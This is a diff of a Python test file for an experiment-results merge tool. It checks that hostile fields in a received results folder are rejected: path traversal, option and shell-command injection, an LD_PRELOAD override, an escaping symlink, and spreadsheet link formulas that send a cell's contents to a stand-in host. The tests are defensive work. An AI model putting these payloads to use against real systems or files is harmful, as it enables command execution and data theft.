@@ -123,51 +123,35 @@ def test_weights_and_kept_files_must_be_the_same_too_but_not_times(halves, other
         lab.merge(halves[0], other)
 
 
-def renamed(folder, **fields):
-    """The same folder, in which the mixed run of seed 2 and its row of the results have others."""
-    path = folder / "results.json"
-    held = json.loads(path.read_text(encoding="utf-8"))
-    for run in held["runs"]:
-        if (run["precision"], run["seed"]) == ("mixed", 2):
-            run.update(fields)
-    path.write_text(json.dumps(held), encoding="utf-8")
-    return changed(folder, "mixed", 2, **fields)
-
-
 @pytest.mark.parametrize("fields", [
-    {"kept": {"words": "../../mine.txt"}},
-    {"kept": {"words": "runs/mixed,seed=1.json"}},
-    {"precision": "../../../mine"},
-    {"precision": "--out=elsewhere"},
-    {"seed": "../2"},
+    {"kept": {"words": "../../mine.txt"}}, {"kept": {"words": "runs/mixed,seed=1.json"}},
+    {"precision": "../../../mine"}, {"precision": "--out=elsewhere"}, {"seed": "../2"}, {},
+    {"variables": {"X=1; touch RAN; Y": "1"}}, {"variables": {"LD_PRELOAD": "a.so"}},
+    {"task": "--out=elsewhere"}, {"commit": "x\ntouch RAN"},
 ])  # fmt: skip
-def test_names_in_a_folder_that_somebody_sent_are_no_paths(halves, other, tmp_path, fields):
+def test_names_of_another_are_no_paths_and_no_text_of_a_shell(halves, other, tmp_path, fields):
     (tmp_path / "mine.txt").write_text("mine", encoding="utf-8")
-    with pytest.raises(DataError, match="the file was edited"):
-        lab.merge(halves[0], renamed(other, **fields), out=tmp_path / "deep" / "whole")
+    if not fields:  # a link in place of a file
+        place = other / "runs" / "mixed,seed=2" / "words.txt"
+        place.unlink()
+        place.symlink_to(tmp_path / "mine.txt")
+    elif {*fields} & {"variables", "task", "commit"}:
+        held = json.loads((other / "results.json").read_text(encoding="utf-8"))
+        held["origin"].update(fields)
+        (other / "results.json").write_text(json.dumps(held), encoding="utf-8")
+        fields = {}
+    with pytest.raises(DataError, match="the file was edited|expected a file in it|expected"):
+        lab.merge(halves[0], changed(other, "mixed", 2, **fields), out=tmp_path / "deep" / "whole")
     assert not (tmp_path / "deep").exists()
-    if "kept" in fields:  # and no page shows another file
-        page = Comparison.load(other).report(tmp_path / "page.html")
-        assert ">mine" not in page.read_text(encoding="utf-8")
-
-
-def test_a_link_out_of_the_folder_is_not_followed(halves, other, tmp_path):
-    (tmp_path / "mine.txt").write_text("mine", encoding="utf-8")
-    place = other / "runs" / "mixed,seed=2" / "words.txt"
-    place.unlink()
-    place.symlink_to(tmp_path / "mine.txt")
-    with pytest.raises(DataError, match="expected a file in it, and no link"):
-        lab.merge(halves[0], other, out=tmp_path / "whole")
 
 
 def test_no_text_of_another_is_a_formula_of_a_spreadsheet(halves, other, tmp_path):
-    texts = {"note": '=HYPERLINK("http://e/?"&A1)', "made": {"@SUM(1+1)": "x"}}
-    lab.merge(halves[0], renamed(other, **texts), out=tmp_path / "whole")
-    with open(tmp_path / "whole" / "runs.csv", newline="", encoding="utf-8") as file:
-        cells = [cell for row in csv.reader(file) for cell in row]
-    assert {'\'=HYPERLINK("http://e/?"&A1)', "'@SUM(1+1): x"} <= {*cells}
-    rows = [["+1", "-inf", -2.5, None, "\t=1", "-a", "a=b"]]
-    assert csv_text(rows) == "+1,-inf,-2.5,,'\t=1,'-a,a=b\n"
+    changed(other, "mixed", 2, note='=LINK("http://e/?"&A1)', made={"@SUM(1+1)": "x"})
+    lab.merge(halves[0], other, out=tmp_path / "whole")
+    text = (tmp_path / "whole" / "runs.csv").read_text(encoding="utf-8")
+    assert ",\"'=LINK(" in text and ",'@SUM(1+1): x" in text
+    cells = ["+1", "-inf", -2.5, None, "\t=1", "-a", "a=b"]
+    assert csv_text([cells]) == "+1,-inf,-2.5,,'\t=1,'-a,a=b\n"
 
 
 def test_nothing_is_left_of_a_merge_that_fails(halves, tmp_path, monkeypatch):
